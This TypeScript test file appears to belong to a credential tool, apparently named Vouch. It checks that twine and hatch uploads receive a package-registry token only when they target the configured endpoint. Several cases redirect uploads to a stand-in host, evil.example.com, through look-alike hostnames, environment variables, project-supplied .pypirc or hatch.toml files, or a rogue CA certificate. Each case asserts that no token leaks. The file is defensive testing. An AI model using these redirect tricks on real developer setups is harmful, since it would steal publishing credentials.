/** twine, old and new, and hatch: what they publish gets a token if it goes to a configured endpoint, and only then. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pythonDistributions } from "../../../docs/projects.ts";
import { throughProxy } from "../../../toolchains/python-proxy.ts";
import { requires } from "../../../requires.ts";
import { names } from "../../../sandbox/main.ts";
import { filesContaining } from "../../disk.ts";
import { type HostileProject, type ProjectFiles, startHostileProject } from "../../hostile/python/project.ts";

const tools = join(import.meta.dir, "../../../../.tools");
const host = names.packageHost;
const endpoint = `https://${host}/pypi/${names.repository}/`;
const evil = "http://evil.example.com/";

let at: HostileProject;
let version = 0;
beforeAll(async () => {
  at = await startHostileProject();
  await at.laptop.setUpRepository("--tool", "twine,hatch");
});
afterAll(() => at?.[Symbol.asyncDispose]());
beforeEach(() => {
  at.reset();
  // CodeArtifact takes each version once.
  pythonDistributions(at.folder, `0.1.${++version}`);
  rmSync(join(at.laptop.home, ".pypirc"), { force: true });
});

function sdist(): string {
  return `dist/my_tool-0.1.${version}.tar.gz`;
}

function pypirc(url: string, name = "company"): void {
  writeFileSync(
    join(at.laptop.home, ".pypirc"),
    `[distutils]\nindex-servers =\n    ${name}\n\n[${name}]\nrepository = ${url}\nusername = aws\n`,
  );
}

const twines = [
  ["twine 4", join(tools, "twine-4/bin")],
  ["twine 7", join(tools, "python-publish/bin")],
] as const;

describe.each(twines)("%s", (_, bin) => {
  const canRun = requires(join(bin, "twine"));
  const upload = ["twine", "upload", "--non-interactive", "--disable-progress-bar"];

  test.skipIf(!canRun).each<[string, string[], Record<string, string>]>([
    ["the repository's name", ["-r", names.repository], {}],
    ["a name of ~/.pypirc", ["--repository", "company"], {}],
    ["the URL", ["--repository-url", endpoint], {}],
    ["a shortened option", [`--repository-u=${endpoint}`], {}],
    ["the variable with the URL", [], { TWINE_REPOSITORY_URL: endpoint }],
    ["the variable with the name", [], { TWINE_REPOSITORY: names.repository }],
  ])(
    "publishes by %s",
    async (title, args, env) => {
      if (title.includes("pypirc")) pypirc(endpoint);
      const { exitCode, stdout, stderr } = await at.run(bin, [...upload, ...args, sdist()], {}, { env, honest: true });
      expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
      expect(filesContaining(at.laptop.home, /vouch-sandbox-token/)).toEqual([]);
    },
    60_000,
  );

  test.skipIf(!canRun)(
    "without a repository's name gets no token, and the person the command that does",
    async () => {
      const { stderr } = await at.run(bin, [...upload, sdist()]);
      expect(stderr).toContain("vouch: no token for `twine upload` without --repository");
      const whole = [...upload.toSpliced(2, 0, "--repository", names.repository), sdist()].join(" ");
      expect(stderr).toContain(`\`${whole}\``);
      const named = await at.run(bin, [...upload, "-r", "pypi", sdist()]);
      expect(named.stderr).not.toContain("vouch: no token");
      expect(at.tokensHeard()).toEqual([]);
    },
    60_000,
  );

  describe.skipIf(!canRun)("where somebody listens", () => {
    test("is heard with a password of the person's own", async () => {
      const own = ["--repository-url", evil, "-u", "me", "-p", "vouch-sandbox-token"];
      await at.run(bin, [...upload, ...own, sdist()]);
      expect(at.tokensHeard()).not.toEqual([]);
    });

    const ours = names.repository;
    const rows: [string, string[], Record<string, string>, ProjectFiles, { url?: string }][] = [
      ["another URL", ["--repository-url", evil], {}, {}, {}],
      ["our name for another URL in ~/.pypirc", ["-r", ours], {}, {}, { url: evil }],
      ["a variable that leads elsewhere", [], { TWINE_REPOSITORY_URL: evil }, {}, {}],
      ["a variable behind our name", ["-r", ours], { TWINE_REPOSITORY_URL: evil }, {}, {}],
      ["a host that begins as ours", ["--repository-url", `http://${host}.evil.example.com/`], {}, {}, {}],
      [
        "a project's file for our name",
        ["-r", ours, "--config-file", "pypirc"],
        {},
        { pypirc: `[distutils]\nindex-servers = ${ours}\n[${ours}]\nrepository = ${evil}\n` },
        {},
      ],
    ];
    test.each(rows)(
      "gives nobody the token: %s",
      async (_title, args, env, project, { url }) => {
        if (url !== undefined) pypirc(url, ours);
        const { stdout, stderr } = await at.run(bin, [...upload, ...args, sdist()], project, { env });
        expect(at.tokensHeard()).toEqual([]);
        expect(stdout + stderr).toMatch(/Credential not found|evil/);
      },
      60_000,
    );

    test("passes over an authority that a project's file names", async () => {
      const section = `[${names.repository}]\nrepository = ${endpoint}\nca_cert = ${at.eavesdropperCa}\n`;
      const project = { pypirc: `[distutils]\nindex-servers = ${names.repository}\n${section}` };
      const args = ["-r", names.repository, "--config-file", "pypirc", sdist()];
      const { stdout, stderr } = await at.run(bin, [...upload, ...args], project);
      expect(at.tokensHeard()).toEqual([]);
      expect(stdout + stderr).toMatch(/certificate/i);
    });

    test.each([
      ["plain http", endpoint.replace("https", "http"), /no token goes over a connection without TLS/],
      ["another repository", `https://${host}/pypi/other/`, /no repository that Vouch is set up for/],
    ])(
      "is refused on the registry's host for %s",
      async (_title, url, why) => {
        const { exitCode, stderr } = await at.run(bin, [...upload, "--repository-url", url, sdist()]);
        expect({ exitCode, stderr }).toEqual({ exitCode: 5, stderr: expect.stringMatching(why) });
        expect(at.eavesdropper.heard).toEqual([]);
      },
      60_000,
    );
  });
});

const bin = join(tools, "hatch/bin");
describe.skipIf(!requires(join(bin, "hatch")))("hatch", () => {
  let modules: string;
  beforeAll(() => {
    modules = join(at.laptop.folder, "modules");
    mkdirSync(modules);
    writeFileSync(join(modules, "sitecustomize.py"), throughProxy);
  });

  function publish(args: string[], files: ProjectFiles, options: { env?: Record<string, string>; honest?: boolean }) {
    const project = { "pyproject.toml": '[project]\nname = "my-tool"\nversion = "0.1.0"\n', ...files };
    const command = ["hatch", "publish", "--no-prompt", ...args, sdist()];
    return at.run(bin, command, project, { ...options, env: { PYTHONPATH: modules, ...options.env } });
  }

  function config(text: string): void {
    const folder = join(at.laptop.home, ".config/hatch");
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, "config.toml"), text);
  }
  beforeEach(() => rmSync(join(at.laptop.home, ".config/hatch"), { recursive: true, force: true }));

  test("without a repository's name gets no token, and the person the command that does", async () => {
    const { stderr } = await publish([], {}, {});
    const whole = `hatch publish --repo ${names.repository} --no-prompt ${sdist()}`;
    expect(stderr).toContain(`vouch: no token for \`hatch publish\` without --repo: it says where to publish.`);
    expect(stderr).toContain(`\`${whole}\``);
    expect((await publish(["-r", "main"], {}, {})).stderr).not.toContain("vouch: no token");
    expect(at.tokensHeard()).toEqual([]);
  });

  test.each<[string, string[], Record<string, string>, string]>([
    ["the repository's name", ["-r", names.repository], {}, ""],
    ["the URL", [`--repo=${endpoint}`], {}, ""],
    ["the variable with the name", [], { HATCH_INDEX_REPO: names.repository }, ""],
    ["a name of its configuration", ["-yr", "company"], {}, `[publish.index.repos]\ncompany = "${endpoint}"\n`],
    [
      "the default of its configuration",
      [],
      {},
      `[publish.index]\nrepo = "company"\n[publish.index.repos.company]\nurl = "${endpoint}"\n`,
    ],
  ])(
    "publishes by %s",
    async (_title, args, env, text) => {
      if (text !== "") config(text);
      const { exitCode, stdout, stderr } = await publish(args, {}, { env, honest: true });
      expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
      expect(filesContaining(at.laptop.home, /vouch-sandbox-token/)).toEqual([]);
    },
    60_000,
  );

  test("is heard with a password of the person's own", async () => {
    await publish(["-r", evil, "-u", "me", "-a", "vouch-sandbox-token"], {}, {});
    expect(at.tokensHeard()).not.toEqual([]);
  });

  test.each<[string, string[], ProjectFiles, string]>([
    ["another URL", ["-r", evil], {}, ""],
    ["our name for another URL", ["-r", names.repository], {}, `[publish.index.repos]\nmy-repo = "${evil}"\n`],
    [
      "a project's own settings",
      ["-r", names.repository],
      { "hatch.toml": `[publish.index]\nrepo = "${evil}"\n[publish.index.repos]\nmy-repo = "${evil}"\n` },
      "",
    ],
  ])(
    "gives nobody the token: %s",
    async (_title, args, files, text) => {
      if (text !== "") config(text);
      await publish(args, files, {});
      expect(at.tokensHeard()).toEqual([]);
    },
    60_000,
  );

  test("is refused on the registry's host for plain http", async () => {
    const { exitCode, stderr } = await publish(["-r", endpoint.replace("https", "http")], {}, {});
    expect({ exitCode, stderr }).toEqual({ exitCode: 5, stderr: expect.stringMatching(/without TLS/) });
  });
});
